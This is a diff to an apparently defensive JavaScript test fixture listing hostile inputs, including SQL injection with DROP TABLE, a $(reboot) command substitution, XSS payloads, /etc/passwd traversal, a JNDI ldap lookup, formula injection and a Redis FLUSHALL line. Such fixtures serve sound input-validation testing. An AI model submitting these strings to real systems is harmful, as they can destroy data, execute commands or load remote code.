@@ -28,11 +28,11 @@ beforeEach(() => {
 const VISIBLE = [
   "Robert'); DROP TABLE companies;--",
   "' OR 1=1 --",
-  '$(reboot) `id` ${7*7} {{7*7}} <%= 7 %>',
+  '$(reboot) `id` $' + '{7*7} {{7*7}} <%= 7 %>',
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
   '../../etc/passwd',
-  '%s%n%x ${jndi:ldap://x/a}',
+  '%s%n%x $' + '{jndi:ldap://x/a}',
   "=HYPERLINK('x')",
   '\\u0000\\r\\n FLUSHALL',
   '*3 $3 SET',
